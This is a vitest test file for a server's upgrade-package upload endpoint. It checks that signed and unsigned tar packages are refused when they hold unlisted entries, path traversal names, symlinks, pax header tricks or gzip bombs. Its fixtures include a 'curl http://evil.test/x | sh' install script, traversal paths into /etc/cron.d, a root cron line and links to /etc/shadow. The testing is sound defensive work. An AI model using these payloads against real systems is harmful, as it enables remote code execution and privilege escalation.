import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { count } from 'drizzle-orm';
import { swUpgradeVersions } from '../../server/db/schema/index';
import { PACKAGE_MESSAGES, verifyUpgradePackage } from '../../server/lib/upgrade-package';
import { TAR_LIMITS, type TarLimits } from '../../server/lib/upgrade-tar';
import { DEMO_MEMBERS, DEMO_PASSWORD, login, multipartBody, startTestServer, type AuthHeaders, type TestServer } from './harness';
import { makeUpgradePackage, paxHeader, tarHeader, writeTar, type TarEntry } from './sw-upgrade-package';

/*
 * Issue 29 finding 7: the signature covered manifest.json and the payload only, so a signed package could carry
 * more, and an operator unpacking it as root would get whatever else it held. Every entry is now one the manifest
 * lists, or the package is refused — signed or not — and a bomb is refused while it is being read.
 */

const keys = generateKeyPairSync('ed25519');
const dataDir = mkdtempSync(join(tmpdir(), 'sw-upgrade-entries-'));
const MiB = 1024 * 1024;

let signed: TestServer;
let unsigned: TestServer;
let signedRoot: AuthHeaders;
let unsignedRoot: AuthHeaders;

beforeAll(async () => {
  // One after the other: starting two servers at once can pass the plugin start timeout on a busy machine.
  signed = await startTestServer({
    config: { dataDir, upgradePublicKey: keys.publicKey.export({ type: 'spki', format: 'pem' }).toString() },
  });
  unsigned = await startTestServer({ config: { dataDir } });
  signedRoot = await login(signed.app, DEMO_MEMBERS.admin, DEMO_PASSWORD);
  unsignedRoot = await login(unsigned.app, DEMO_MEMBERS.admin, DEMO_PASSWORD);
});
afterAll(async () => {
  await Promise.all([signed?.close(), unsigned?.close()]);
  rmSync(dataDir, { recursive: true, force: true });
});

const upload = (sut: TestServer, who: AuthHeaders, content: Buffer) => {
  const form = multipartBody({}, { name: 'shelfpad-upgrade.tar', content });
  return sut.app.inject({ method: 'POST', url: '/api/upgrade/file', payload: form.payload, headers: { ...who, ...form.headers } });
};

/** What a refused upload must leave as it was: the versions GET /version shows, the recorded rows, the stored files. */
async function storedState(sut: TestServer, who: AuthHeaders) {
  const version = (await sut.app.inject({ method: 'GET', url: '/api/version', headers: who })).json();
  const [{ rows }] = await sut.deps.db.select({ rows: count() }).from(swUpgradeVersions);
  const dir = join(dataDir, 'sw-upgrade');
  return { version, rows, files: existsSync(dir) ? readdirSync(dir).sort() : [] };
}

async function expectRefused(sut: TestServer, who: AuthHeaders, content: Buffer, status: number, code: string) {
  const before = await storedState(sut, who);
  const res = await upload(sut, who, content);
  expect(res.statusCode, res.body).toBe(status);
  expect(res.json()).toMatchObject({ code, message: expect.any(String) });
  expect(await storedState(sut, who)).toEqual(before);
  return res.json().message as string;
}

const signedWith = (version: string, extra: TarEntry[]) => makeUpgradePackage({ version, signWith: keys.privateKey, extra });
const script = '#!/bin/sh\ncurl -s http://evil.test/x | sh\n';

describe('every entry of a package is one its signed manifest lists', () => {
  it('a signed package with an extra install.sh is refused, naming it', async () => {
    const message = await expectRefused(
      signed,
      signedRoot,
      signedWith('5.0.1', [{ name: 'install.sh', content: script, mode: 0o755 }]),
      400,
      'UNLISTED_ENTRY',
    );
    expect(message).toContain('"install.sh"');
  });

  it('a signed package with a traversal or absolute name is refused', async () => {
    for (const name of ['../../../../etc/cron.d/x', '/usr/local/bin/node', './../payload.bin', 'a\\..\\..\\x']) {
      const message = await expectRefused(signed, signedRoot, signedWith('5.0.2', [{ name, content: script }]), 400, 'UNSAFE_ENTRY');
      expect(message).toContain(JSON.stringify(name));
    }
  });

  it('an unsigned package with a traversal name is refused too (no UPGRADE_PUBLIC_KEY)', async () => {
    await expectRefused(
      unsigned,
      unsignedRoot,
      makeUpgradePackage({ grm: '5.0.3', extra: [{ name: '../../../../etc/cron.d/x', content: '* * * * * root sh /tmp/x\n' }] }),
      400,
      'UNSAFE_ENTRY',
    );
    await expectRefused(
      unsigned,
      unsignedRoot,
      makeUpgradePackage({ grm: '5.0.4', extra: [{ name: 'install.sh', content: script }] }),
      400,
      'UNLISTED_ENTRY',
    );
  });

  it('links, devices and directories are refused, whatever they are called', async () => {
    const cases: TarEntry[] = [
      { name: 'payload-link', type: '2', linkName: '/usr/local/bin/node' },
      { name: 'hard', type: '1', linkName: '/etc/shadow' },
      { name: 'disk', type: '4' },
      { name: 'etc/', type: '5' },
    ];
    for (const entry of cases)
      await expectRefused(unsigned, unsignedRoot, makeUpgradePackage({ gmp: '5.0.5', extra: [entry] }), 400, 'UNSAFE_ENTRY');
    // The payload itself as a symlink: the manifest names it, but its bytes are not what was signed.
    const linked = writeTar([
      {
        name: 'manifest.json',
        content: JSON.stringify({
          format: 'shelfpad-upgrade/1',
          gmp: '5.0.6',
          payload: 'payload.bin',
          sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        }),
      },
      { name: 'payload.bin', type: '2', linkName: '/usr/local/bin/node' },
    ]);
    await expectRefused(unsigned, unsignedRoot, linked, 400, 'UNSAFE_ENTRY');
  });

  it('a pax header cannot rename an entry past the checks', async () => {
    const sneaky = signedWith('5.0.7', [paxHeader({ path: '../../../../etc/cron.d/x' }), { name: 'harmless.txt', content: script }]);
    const message = await expectRefused(signed, signedRoot, sneaky, 400, 'UNSAFE_ENTRY');
    expect(message).toContain('../../../../etc/cron.d/x');
    await expectRefused(
      signed,
      signedRoot,
      signedWith('5.0.8', [paxHeader({ linkpath: '/etc/passwd' }), { name: 'x', content: '' }]),
      400,
      'UNSAFE_ENTRY',
    );
  });

  it('still accepts a signed package packed by GNU tar in pax format, with ./ names', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'pkg-pax-'));
    try {
      writeFileSync(join(dir, 'in.tar'), makeUpgradePackage({ version: '5.1.0', signWith: keys.privateKey }));
      execFileSync('tar', ['-xf', 'in.tar'], { cwd: dir });
      execFileSync('tar', ['--format=posix', '-czf', 'out.tar.gz', './manifest.json', './manifest.sig', './payload.bin'], { cwd: dir });
      const res = await upload(signed, signedRoot, readFileSync(join(dir, 'out.tar.gz')));
      expect(res.statusCode, res.body).toBe(200);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('what else a package may not hold', () => {
  const refusal = async (content: Buffer, limits = TAR_LIMITS) => {
    try {
      await verifyUpgradePackage(content, undefined, limits);
    } catch (error) {
      return error as { status: number; code: string; message: string };
    }
    throw new Error('the package was accepted');
  };
  const good = makeUpgradePackage({ version: '6.0.0' });

  it('refuses setuid files, duplicates, odd names and entries hidden after the end of the archive', async () => {
    const cases: [Buffer, string][] = [
      [makeUpgradePackage({ version: '6.0.1', extra: [{ name: 'manifest.sig', content: 'x', mode: 0o4755 }] }), 'UNSAFE_ENTRY'],
      [makeUpgradePackage({ version: '6.0.2', extra: [{ name: './payload.bin', content: 'another payload' }] }), 'UNSAFE_ENTRY'],
      [
        makeUpgradePackage({ version: '6.0.3', extra: [paxHeader({ path: 'payload.bin\0../../x' }), { name: 'y', content: '' }] }),
        'UNSAFE_ENTRY',
      ],
      [makeUpgradePackage({ version: '6.0.4', extra: [{ name: 'docs/README', content: 'hi' }] }), 'UNLISTED_ENTRY'],
      // `tar -i` reads on past zero blocks: what hides there would be unpacked.
      [Buffer.concat([good, writeTar([{ name: 'install.sh', content: script }])]), 'NOT_A_PACKAGE'],
      // Not gzip after all, and gzip cut short before the end of the archive.
      [Buffer.from([0x1f, 0x8b, 1, 2, 3, 4, 5, 6, 7, 8]), 'NOT_A_PACKAGE'],
      [gzipSync(good).subarray(0, 60), 'NOT_A_PACKAGE'],
    ];
    for (const [content, code] of cases) expect((await refusal(content)).code).toBe(code);
    expect((await refusal(cases[4][0])).message).toBe(PACKAGE_MESSAGES.trailingData);
  });

  it('bounds entries and sizes: a tar bomb of tiny entries and an oversized entry are refused early', async () => {
    // Files: the fourth one cannot be listed by a manifest, so reading stops there.
    const tinyFiles = writeTar(Array.from({ length: 5000 }, (_, i) => ({ name: `f${i}`, content: '' })));
    expect(await refusal(tinyFiles)).toMatchObject({ status: 400, code: 'UNLISTED_ENTRY', message: expect.stringContaining('"f3"') });
    const tinyHeaders = writeTar(Array.from({ length: 5000 }, () => paxHeader({ mtime: '1' })));
    expect(await refusal(tinyHeaders)).toMatchObject({ status: 413, code: 'PACKAGE_TOO_LARGE' });
    expect(await refusal(makeUpgradePackage({ version: '6.1.0' }), { ...TAR_LIMITS, maxSmallEntryBytes: 64 })).toMatchObject({
      status: 413,
      code: 'PACKAGE_TOO_LARGE',
    });
    expect(
      await refusal(makeUpgradePackage({ version: '6.1.1', payload: 'x'.repeat(4096) }), { ...TAR_LIMITS, maxUnpackedBytes: 4096 }),
    ).toMatchObject({ status: 413 });
  });

  /** Gzip members: `start`, then `members` members of 1 MiB of zeros each (about 1 KiB compressed each). */
  function* gzipBomb(start: Buffer, members: number, pulled = { count: 0 }) {
    yield gzipSync(start);
    const zeros = gzipSync(Buffer.alloc(MiB));
    for (let i = 0; i < members; i++) {
      pulled.count++;
      yield zeros;
    }
  }
  /** A payload whose header declares 4 GiB, the zeros to follow. */
  const hugePayload = Buffer.concat([
    writeTar({ 'manifest.json': '{}' }).subarray(0, 1024),
    tarHeader({ name: 'payload.bin' }, 4 * 1024 * MiB),
  ]);
  const lazily = (chunks: Iterable<Buffer>) =>
    (async function* () {
      yield* chunks;
    })();

  it('a gzip bomb is refused while it is inflated, not after', async () => {
    const cases: [Buffer, TarLimits][] = [
      // Its header declares more than a package may hold: refused before its data is inflated.
      [hugePayload, TAR_LIMITS],
      // Zeros after the end marker: refused after the padding a tar tool could have written.
      [good, TAR_LIMITS],
      // The running count of inflated bytes stops whatever the other limits let through.
      [good, { ...TAR_LIMITS, maxUnpackedBytes: 16 * MiB, maxTrailerBytes: 64 * MiB }],
    ];
    for (const [start, limits] of cases) {
      const pulled = { count: 0 };
      await expect(verifyUpgradePackage(lazily(gzipBomb(start, 4096, pulled)), undefined, limits)).rejects.toMatchObject({
        status: 413,
        code: 'PACKAGE_TOO_LARGE',
      });
      // 4 GiB were on offer; reading stopped at the first limit passed, plus what the streams buffer ahead.
      expect(pulled.count).toBeLessThan(Math.min(limits.maxUnpackedBytes, limits.maxTrailerBytes) / MiB + 64);
    }
  });

  it('a gzip bomb upload answers 413 and stores nothing', async () => {
    for (const start of [hugePayload, good]) {
      const bomb = Buffer.concat([...gzipBomb(start, 1024)]);
      expect(bomb.length).toBeLessThan(2 * MiB);
      await expectRefused(unsigned, unsignedRoot, bomb, 413, 'PACKAGE_TOO_LARGE');
    }
  });
});
